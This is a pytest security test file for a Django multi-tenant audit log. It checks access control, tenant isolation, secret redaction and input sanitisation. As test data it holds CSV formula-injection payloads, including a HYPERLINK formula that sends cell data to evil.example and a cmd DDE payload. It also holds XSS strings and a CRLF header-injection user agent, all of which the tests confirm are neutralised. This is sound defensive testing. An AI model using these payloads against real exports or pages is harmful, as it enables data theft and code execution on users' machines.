"""Hostile inputs against the audit log: who may read it, whose entries they see, what a crafted
name does to an export, whether a secret or a forged address can get into an entry."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from tenants import audit
from tenants.models import AuditLog
from tests.factories import (
    AuditLogFactory,
    EndUserFactory,
    MembershipFactory,
    ProviderFactory,
    ProviderKeyFactory,
    TenantAPIKeyFactory,
)
from tests.tenants.audit_helpers import CLIENT_IP, api_session, browser, member_browser

URL = "/api/v1/audit-log"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
]


def csv_rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def key_client(tenant, scopes=("manage",), end_user=None) -> APIClient:
    key = TenantAPIKeyFactory(tenant=tenant, scopes=list(scopes), end_user=end_user)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key.raw_key}")
    return client


# --- who may read ------------------------------------------------------------------------


@pytest.mark.parametrize("query", [{}, {"format": "csv"}])
def test_anonymous_callers_get_401_and_no_entries(tenant, query):
    AuditLogFactory(tenant=tenant)

    response = APIClient().get(URL, query)

    assert response.status_code == 401
    assert response["Content-Type"].startswith("application/json")
    assert not AuditLog.objects.filter(action="audit_log.exported").exists()


@pytest.mark.parametrize("role", ["member", "viewer"])
@pytest.mark.parametrize("query", [{}, {"format": "csv"}])
def test_members_and_viewers_get_403(tenant, role, query):
    AuditLogFactory(tenant=tenant)
    user = MembershipFactory(tenant=tenant, role=role).user

    response = api_session(user).get(URL, query)

    assert response.status_code == 403
    assert "results" not in response.json()


def test_a_key_without_manage_or_bound_to_an_end_user_gets_403(tenant):
    AuditLogFactory(tenant=tenant)
    bound = key_client(tenant, end_user=EndUserFactory(tenant=tenant))

    assert key_client(tenant, scopes=("usage:read", "completions")).get(URL).status_code == 403
    assert bound.get(URL).status_code == 403


def test_entries_cannot_be_written_through_the_api(tenant, owner):
    client = api_session(owner)

    statuses = {
        client.post(URL, {"action": "forged"}, format="json").status_code,
        client.put(URL, {"action": "forged"}, format="json").status_code,
        client.delete(URL).status_code,
    }

    assert statuses == {405}
    assert not AuditLog.objects.filter(action="forged").exists()


# --- tenant isolation ------------------------------------------------------------------


def test_another_tenants_entries_are_invisible_in_json_csv_and_the_page(
    tenant, other_tenant, owner
):
    mine = AuditLogFactory(tenant=tenant, action="api_key.created")
    AuditLogFactory(tenant=other_tenant, action="api_key.created", target_repr="THEIRS")
    AuditLogFactory(tenant=None, action="plan.updated", target_repr="PLATFORM")

    listed = api_session(owner).get(URL).json()
    exported = csv_rows(api_session(owner).get(URL, {"format": "csv"}))
    page = browser(owner).get(reverse("tenants:audit-log")).content.decode()

    assert [r["id"] for r in listed["results"]] == [mine.pk]
    assert [r["id"] for r in exported] == [str(mine.pk)]
    assert "THEIRS" not in page
    assert "PLATFORM" not in page


def test_filtering_by_another_tenants_key_finds_nothing(tenant, other_tenant, owner):
    theirs = ProviderKeyFactory(tenant=other_tenant, provider=ProviderFactory())
    AuditLogFactory(
        tenant=other_tenant, target_type="providers.providerkey", target_id=str(theirs.pk)
    )

    response = api_session(owner).get(
        URL, {"target_type": "providers.providerkey", "target_id": str(theirs.pk)}
    )

    assert response.json()["count"] == 0


def test_a_session_pointing_at_another_tenant_still_reads_only_ones_own(
    tenant, other_tenant, owner
):
    AuditLogFactory(tenant=other_tenant, target_repr="THEIRS")
    client = api_session(owner)
    session = client.session
    session["tenant_id"] = other_tenant.pk  # a tampered (or stale) active-tenant choice
    session.save()

    body = client.get(URL).json()

    assert all(r["target"] != "THEIRS" for r in body["results"])


def test_another_tenants_manage_key_cannot_read_this_log(tenant, other_tenant):
    AuditLogFactory(tenant=tenant, target_repr="OURS")

    body = key_client(other_tenant).get(URL).json()

    assert body["count"] == 0


# --- exports a spreadsheet opens -------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_quoted_in_the_tenants_csv(tenant, owner, payload):
    AuditLogFactory(
        tenant=tenant, actor_label=payload, target_repr=payload, changes={"label": payload}
    )

    row = csv_rows(api_session(owner).get(URL, {"format": "csv"}))[0]

    assert row["actor"] == "'" + payload
    assert row["target"] == "'" + payload
    assert not row["changes"].startswith(("=", "+", "-", "@"))


def test_formula_cells_are_quoted_in_the_staff_export_and_the_command(tenant, staff_user):
    AuditLogFactory(tenant=tenant, actor_label=FORMULAS[0], user_agent="=2*3")
    out = io.StringIO()

    admin_rows = csv_rows(browser(staff_user).get(reverse("admin:tenants_auditlog_export")))
    call_command("export_audit_log", stdout=out)
    command_rows = list(csv.DictReader(io.StringIO(out.getvalue())))

    for row in (admin_rows[0], command_rows[0]):
        assert row["actor"] == "'" + FORMULAS[0]
        assert row["user_agent"] == "'=2*3"


def test_markup_in_names_is_escaped_on_the_page_and_in_the_admin(tenant, owner, staff_user):
    AuditLogFactory(
        tenant=tenant,
        actor_label="<script>alert(1)</script>",
        target_type="tenants.tenant",
        target_repr="<img src=x onerror=alert(2)>",
        changes={"name": ["<b>old</b>", "<svg onload=alert(3)>"]},
    )

    page = browser(owner).get(reverse("tenants:audit-log")).content.decode()
    admin = browser(staff_user).get(reverse("admin:tenants_auditlog_changelist")).content.decode()

    for html in (page, admin):
        assert "<script>alert(1)" not in html
        assert "<img src=x" not in html
        assert "<svg onload" not in html


# --- secrets and forged origins ----------------------------------------------------------


def test_adding_and_replacing_a_key_through_the_api_records_last4_at_most(tenant, sim):
    provider = ProviderFactory(slug="sim-sec", base_url=f"{sim.url}/v1")
    first, second = "sk-sim-good-canary-AAAA1111", "sk-sim-good-canary-BBBB2222"
    client = key_client(tenant)

    created = client.post(
        "/api/v1/provider-keys",
        {"provider": "sim-sec", "scope": "tenant", "secret": first},
        format="json",
    )
    client.post(f"/api/v1/provider-keys/{created.json()['id']}/replace", {"secret": second})
    assert created.status_code == 201, created.content

    text = str(list(AuditLog.objects.values_list("changes", "target_repr", "actor_label")))
    for secret in (first, second):
        assert secret not in text
        assert secret[:-4] not in text
    assert AuditLog.objects.get(action="provider_key.replaced").changes == {
        "key": ["••••1111", "••••2222"]
    }
    assert provider.keys.get().last4 == "2222"


def test_a_key_shaped_value_passed_in_changes_is_redacted(tenant):
    entry = audit.record(
        action="tenant.noted",
        tenant=tenant,
        changes={"note": "leaked sk-proj-Abc123def456ghi789", "nested": ["Bearer abcdefgh1234"]},
    )

    entry.refresh_from_db()
    assert "sk-proj-Abc123def456ghi789" not in str(entry.changes)
    assert "abcdefgh1234" not in str(entry.changes)


def test_a_forged_forwarded_for_from_an_untrusted_client_is_not_recorded(settings, tenant):
    settings.SWITCHYARD_TRUSTED_PROXIES = ["10.0.0.0/8"]
    client, _ = member_browser(tenant, "owner")
    key = TenantAPIKeyFactory(tenant=tenant)

    client.post(reverse("tenants:api-key-revoke", args=[key.pk]), HTTP_X_FORWARDED_FOR="10.0.0.1")

    assert AuditLog.objects.get(action="api_key.revoked").ip_address == CLIENT_IP


def test_a_user_agent_cannot_forge_lines_or_flood_the_entry(tenant):
    client, _ = member_browser(tenant, "owner")
    key = TenantAPIKeyFactory(tenant=tenant)

    client.post(
        reverse("tenants:api-key-revoke", args=[key.pk]),
        HTTP_USER_AGENT="evil\r\nX-Injected: 1\x00" + "A" * 5000,
    )

    agent = AuditLog.objects.get(action="api_key.revoked").user_agent
    assert len(agent) == audit.USER_AGENT_CHARS
    assert "\n" not in agent
    assert "\r" not in agent
    assert "\x00" not in agent
